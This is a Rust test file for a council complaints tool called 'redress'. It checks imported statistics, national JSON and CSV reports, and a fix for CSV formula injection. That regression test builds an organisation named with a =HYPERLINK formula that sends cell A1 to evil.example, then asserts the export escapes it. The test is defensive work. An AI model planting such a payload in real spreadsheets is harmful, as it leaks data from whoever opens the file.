//! Generated councils imported through the CLI (files of thousands of cases), then `redress
//! check statistics`, the national roll-up in JSON and CSV, and each council's report from
//! grouped queries against the one from whole cases, on both backends.

use redress_report::Period;
use redress_testkit::{on_both_backends, TestDatabase};
use std::process::{Command, Output};

fn redress(db: &TestDatabase, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_redress"))
        .arg("--database")
        .arg(&db.url)
        .args(args)
        .output()
        .expect("the redress binary runs")
}

fn ok(output: Output) -> String {
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

on_both_backends!(imported_councils_have_their_statistics);

async fn imported_councils_have_their_statistics(db: &TestDatabase) {
    let dir = std::env::temp_dir().join(format!(
        "redress-stats-{}-{}",
        std::process::id(),
        db.backend
    ));
    let _ = std::fs::remove_dir_all(&dir);
    let gen = Command::new(env!("CARGO_BIN_EXE_redress"))
        .args(["gen", "--organisations", "2", "--cases", "6000", "--out"])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(gen.status.success());
    for slug in ["org-001", "org-002"] {
        for kind in ["cases", "compliments"] {
            let file = dir.join(slug).join(format!("{kind}.csv"));
            ok(redress(
                db,
                &[
                    "import",
                    kind,
                    file.to_str().unwrap(),
                    "--organisation",
                    slug,
                ],
            ));
        }
    }
    let checked = ok(redress(db, &["check", "statistics"]));
    assert!(checked.contains("org-001: 3000 cases"), "{checked}");
    assert!(
        checked.contains("the statistics table agrees with the cases"),
        "{checked}"
    );

    let json: serde_json::Value =
        serde_json::from_str(&ok(redress(db, &["report", "national", "--year", "2020"]))).unwrap();
    let csv = ok(redress(
        db,
        &["report", "national", "--year", "2020", "--format", "csv"],
    ));
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines.len(),
        4,
        "a header, two councils and the totals: {csv}"
    );
    let total = lines[3];
    assert!(total.starts_with("total,All organisations,"), "{total}");
    let received = json["totals"]["received"].as_u64().unwrap();
    assert!(received > 0);
    assert_eq!(total.split(',').nth(2).unwrap(), received.to_string());

    // Each council's report from grouped queries is its report from whole cases, by year,
    // quarter and team.
    let store = redress_store::Store::connect(&db.url).await.unwrap();
    let mut periods: Vec<Period> = (2018..=2021).map(Period::financial_year).collect();
    periods.extend((1..=4).filter_map(|q| Period::quarter(2020, q).ok()));
    let differences = redress_web::report_input::check_reports(&store, &periods)
        .await
        .unwrap();
    assert!(differences.is_empty(), "{differences:#?}");
    let _ = std::fs::remove_dir_all(&dir);
}

on_both_backends!(the_national_csv_is_formula_safe);

/// Issue 23: `report national --format csv` wrote an organisation named `=HYPERLINK(...)` as a
/// live formula.
async fn the_national_csv_is_formula_safe(db: &TestDatabase) {
    let store = redress_store::Store::connect(&db.url).await.unwrap();
    let hostile = r#"=HYPERLINK("http://evil.example/?d="&A1,"Thanks")"#;
    let new = redress_store::NewOrganisation {
        name: hostile.to_string(),
        ..redress_store::NewOrganisation::with_defaults("hostile")
    };
    let actor = redress_store::Actor {
        label: "test".into(),
        user_id: None,
        address: None,
    };
    store.create_organisation(&new, &actor).await.unwrap();
    store.close().await;
    let csv = ok(redress(
        db,
        &["report", "national", "--year", "2020", "--format", "csv"],
    ));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[1].to_string())
        .collect();
    assert!(names.contains(&format!("'{hostile}")), "{csv}");
    assert!(names.iter().all(|n| !n.starts_with('=')), "{csv}");
}
